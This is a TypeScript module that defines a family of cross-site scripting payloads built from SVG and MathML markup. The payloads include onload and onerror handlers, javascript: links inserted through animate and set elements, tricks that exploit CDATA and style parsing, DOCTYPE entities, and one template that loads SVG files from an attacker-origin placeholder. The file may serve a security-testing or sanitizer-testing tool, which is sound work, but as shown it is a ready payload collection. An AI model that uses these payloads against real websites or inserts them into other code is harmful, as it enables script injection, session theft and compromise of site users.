// Drawings and formulae: inside them other rules of reading hold.
import { ATTACKER_ORIGIN, toEntities, type PayloadFamily } from './payload-family';

export const FOREIGN_CONTENT_PAYLOADS: PayloadFamily = {
  'a drawing that loads': (run) => `<svg onload=${run}>`,
  'a drawing without spaces': (run) => `<svg/onload="${run}">`,
  'a script in a drawing': (run) => `<svg><script>${run}</script></svg>`,
  'a script of entities in a drawing': (run) => `<svg><script>${toEntities(run, 10)}</script></svg>`,
  'a script that a drawing loads': (run) => `<svg><script href="data:,${run}"/></svg>`,
  'an animation that begins': (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  'an animation that sets an address': (run) =>
    `<svg><a><animate attributeName=href values="javascript:${run}"/><text x=9 y=9>a</text></a></svg>`,
  'a setting of an address': (run) =>
    `<svg><a><set attributeName="xlink:href" to="javascript:${run}"/><text x=9 y=9>a</text></a></svg>`,
  'a link in a drawing': (run) => `<svg><a xlink:href="javascript:${run}"><text x=9 y=9>a</text></a></svg>`,
  'a drawing that uses another': (run) =>
    `<svg><use href="data:image/svg+xml,<svg id='a' xmlns='http://www.w3.org/2000/svg'><a href='javascript:${run}'/></svg>#a"/></svg>`,
  'a page in a drawing': (run) => `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></iframe></svg>`,
  'a picture in a drawing': (run) => `<svg><image href=x onerror=${run} /></svg>`,
  'a picture that a drawing loads': () =>
    `<svg><image href="${ATTACKER_ORIGIN}/a.svg" /><feImage href="${ATTACKER_ORIGIN}/b.svg" /></svg>`,
  'a title of a drawing': (run) => `<svg><title><img src=x onerror=${run}></title></svg>`,
  'a description of a drawing': (run) => `<svg><desc><img src=x onerror=${run}></desc></svg>`,
  'a style in a drawing': (run) => `<svg><style><img src=x onerror=${run}></style></svg>`,
  'a style with an attribute in a drawing': (run) => `<svg><style><p title="</style><img src=x onerror=${run}>"></svg>`,
  'a paragraph that ends a drawing': (run) => `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  'a break that ends a drawing': (run) => `<svg><br><img src=x onerror=${run}></svg>`,
  'a data section in a drawing': (run) => `<svg><![CDATA[><img src=x onerror=${run}>]]></svg>`,
  'a data section that hides an end': (run) => `<svg><![CDATA[</svg><p title="]]>"><img src=x onerror=${run}>`,
  'a handler of a drawing': (run) =>
    `<svg><handler type="text/javascript">${run}</handler><g onclick="${run}">a</g></svg>`,
  'an entity of a drawing': (run) => `<!DOCTYPE svg [<!ENTITY e "<script>${run}</script>">]><svg>&e;</svg>`,
  'a prefix before a name': (run) => `<svg:script>${run}</svg:script><x:img src=x onerror=${run}>`,
  'a link in a formula': (run) => `<math><a xlink:href="javascript:${run}">a</a></math>`,
  'a formula that is a link': (run) => `<math href="javascript:${run}"><mi href="javascript:${run}">a</mi></math>`,
  'a script in a formula': (run) => `<math><mtext><script>${run}</script></mtext></math>`,
  'a picture in a formula': (run) => `<math><mi><img src=x onerror=${run}></mi></math>`,
  'a page in a remark on a formula': (run) =>
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
  'an action in a formula': (run) =>
    `<math><maction actiontype="statusline#a" xlink:href="javascript:${run}">a</maction></math>`,
};
